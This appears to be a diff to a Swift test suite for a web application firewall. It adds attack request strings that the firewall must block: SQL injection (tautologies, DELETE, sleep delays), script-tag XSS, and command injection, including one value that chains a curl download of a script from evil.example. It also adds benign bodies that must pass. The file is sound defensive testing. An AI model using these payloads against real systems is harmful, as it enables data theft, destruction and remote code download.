@@ -34,9 +34,12 @@ private func body(_ p: WAFPolicy, _ r: WAFRequest, _ text: String) -> WAFVerdict
     @Test(arguments: [
         ("/products?id=1%20UNION%20ALL%20SELECT%20username,password%20FROM%20users--", "100101"),
         ("/login?user=admin'%20OR%20'1'='1", "100102"),
+        ("/login?user=x'%20or%20username%20like%20'%25", "100102"),
         ("/item?id=5+or+1=1", "100103"),
         ("/item?id=1);waitfor%20delay%20'0:0:5'--", "100105"),
         ("/item?id=1;%20DROP%20TABLE%20users", "100106"),
+        ("/item?id=1;%20delete%20from%20users%20where%201", "100106"),
+        ("/item?id=1%20and%20sleep(5)", "100105"),
         ("/q?s=1%27%20and%20(select%201%20from%20information_schema.tables)", "100107"),
         ("/search?q=%3Cscript%3Ealert(1)%3C/script%3E", "100201"),
         ("/search?q=%3Cimg%20src=x%20onerror=alert(1)%3E", "100202"),
@@ -47,6 +50,7 @@ private func body(_ p: WAFPolicy, _ r: WAFRequest, _ text: String) -> WAFVerdict
         ("/read?f=report.pdf%00.txt", "100303"),
         ("/ping?host=127.0.0.1;cat%20/etc/hosts", "100401"),
         ("/ping?host=x%7Cwhoami", "100401"),
+        ("/ping?host=8.8.8.8%26%26curl%20http://evil.example/x.sh", "100406"),
         ("/ping?host=$(id)", "100402"),
         ("/run?cmd=x%24%7BIFS%7Dcat", "100403"),
     ])
@@ -67,6 +71,10 @@ private func body(_ p: WAFPolicy, _ r: WAFRequest, _ text: String) -> WAFVerdict
         #expect(v.block)
         let sql = body(p, r, #"{"id":"1' or 'a'='a"}"#)
         #expect(sql.ruleIDs == ["100102"])
+        // JSON escapes do not hide a payload.
+        let escaped = body(p, r, #"{"bio":"\u003cscript\u003ealert(1)\u003c/script\u003e"}"#)
+        #expect(escaped.ruleIDs == ["100201"])
+        #expect(WAFTransform.jsUnescape.apply(Array(#"a\x3cb\u00e9\u12"#.utf8)) == Array(#"a<bé\u12"#.utf8))
     }
 
     @Test func scannersAndJNDIInHeadersAreBlocked() throws {
@@ -103,6 +111,9 @@ private func body(_ p: WAFPolicy, _ r: WAFRequest, _ text: String) -> WAFVerdict
         #"{"name":"Seán O'Brien","comment":"Don't miss it -- really, select the blue one from the list; then update your profile.","tags":["a","b"]}"#,
         "title=Release+notes&body=We+fixed+a+bug+where+1+%3D+1+comparisons+failed.+See+docs%2Fupgrade.md",
         "<?xml version=\"1.0\"?><order><id>42</id><note>Leave at the door &amp; ring twice</note></order>",
+        "comment=Send+it%3B+ping+me+later.+The+cats%3B+cat+food+is+fine%3B+ls+is+a+command+%7C+id+card+too",
+        #"{"quote":"He said \"yes\" and that is final, \"no\" or people like it"}"#,
+        "note=Get+more+sleep+(8+hours)%3B+delete+from+your+list+anything+urgent%3B+shutdown+the+laptop+at+night.+Benchmark+(2024)+results",
     ])
     func cleanBodiesPass(text: String) throws {
         let p = try policy()
